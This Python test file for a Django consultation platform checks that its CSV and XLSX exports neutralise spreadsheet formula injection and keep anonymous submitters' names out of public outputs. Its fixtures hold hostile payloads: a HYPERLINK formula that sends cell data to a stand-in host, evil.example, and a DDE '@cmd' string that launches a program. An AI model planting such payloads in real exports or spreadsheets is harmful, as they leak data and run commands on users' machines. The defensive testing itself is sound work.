"""Every CSV and XLSX Samskap writes keeps a text that looks like a formula a text (no formula
injection), and what of a submission is public is decided in one place."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from samskap.consultations.models import Submission
from samskap.kernel.public import PublicFields
from samskap.kernel.tabular import csv_row, neutralise
from tests import factories as f
from tests.opendata.test_downloads import body

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def poisoned(world):
    consultation = world["consultation"]
    f.submission(consultation, name="Angriper", organisation=ATTACK, text="+SUM(1,2)", email="a@example.org")
    commitment = world["commitment"]
    commitment.title = "@cmd|' /C calc'!A0"
    commitment.save()
    return world


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _risky(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_becomes_text(text):
    assert neutralise(text) == "'" + text
    assert csv_row([text, 5, None]) == ["'" + text, 5, None]


@pytest.mark.parametrize("text", ["=1+1", "-", "'quoted'", "'-1", "plain"])
def test_what_is_neutralised_reads_back_as_it_was(text):
    from samskap.kernel.tabular import restore

    assert restore(neutralise(text)) == text


def test_plain_text_is_left_alone():
    assert neutralise("Åpne data, 2021") == "Åpne data, 2021"


def test_the_site_zip_holds_no_formula(poisoned, client):
    archive = zipfile.ZipFile(io.BytesIO(body(client.get("/en/data/download/samskap.zip"))))
    for name in archive.namelist():
        if name.endswith(".csv"):
            assert _risky(_csv_cells(archive.read(name).decode())) == [], name
    submissions = _csv_cells(archive.read("submissions.csv").decode())
    assert "'" + ATTACK in submissions, "the text is kept, behind the apostrophe that makes it text"


@pytest.mark.parametrize("address", ["/en/data/download/samskap.xlsx", "/en/data/download/norge/4.xlsx"])
def test_the_xlsx_downloads_hold_no_formula(poisoned, client, address):
    workbook = load_workbook(io.BytesIO(body(client.get(address))))
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    values = [cell.value for row in workbook["submissions"].iter_rows() for cell in row]
    assert ATTACK in values, "the text is kept as it was written"


def test_the_consultation_exports_hold_no_formula(poisoned, client):
    consultation = poisoned["consultation"]
    base = f"/en/consultations/{consultation.jurisdiction.slug}/{consultation.slug}"
    text = client.get(f"{base}/export.csv").content.decode("utf-8-sig")
    assert _risky(_csv_cells(text)) == []
    workbook = load_workbook(io.BytesIO(client.get(f"{base}/export.xlsx").content))
    assert not [c for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


def test_ogp_and_decidim_files_hold_no_formula(poisoned, client):
    plan = poisoned["plan"]
    ogp = body(client.get(f"/en/data/ogp/{plan.jurisdiction.slug}/{plan.slug}.csv")).decode("utf-8-sig")
    assert _risky(_csv_cells(ogp)) == []
    decidim = body(client.get(f"/en/data/decidim/{plan.jurisdiction.slug}/{plan.slug}.csv")).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(decidim), delimiter=";") for cell in row]
    assert _risky(cells) == []


def test_an_anonymous_senders_name_and_organisation_are_in_no_export(world, client):
    consultation = world["consultation"]
    base = f"/en/consultations/{consultation.jurisdiction.slug}/{consultation.slug}"
    outputs = [
        client.get(f"{base}/export.csv").content.decode("utf-8-sig"),
        body(client.get(f"{base}/report/")).decode(),
        body(client.get("/en/data/download/samskap.json")).decode(),
        client.get("/api/v1/submissions/").content.decode(),
    ]
    for output in outputs:
        assert "Skjult Forening" not in output and "Skjult Person" not in output
    assert "Anonymt innspill." in outputs[2], "the anonymous text itself is public"


@pytest.mark.django_db
def test_the_public_declaration_of_a_submission_withholds_names_unless_published_by_name(world):
    from samskap.kernel.registry import public_fields

    declaration: PublicFields = public_fields["consultations.submission"]
    anonymous = Submission.objects.get(name="Skjult Person")
    assert declaration.value(anonymous, "organisation") is None
    assert declaration.value(anonymous, "text") == "Anonymt innspill."
    with pytest.raises(KeyError):
        declaration.value(anonymous, "email")
    public_ids = set(declaration.rows().values_list("pk", flat=True))
    assert anonymous.pk in public_ids
    assert not Submission.objects.filter(pk__in=public_ids, consent=Submission.Consent.NONE).exists()
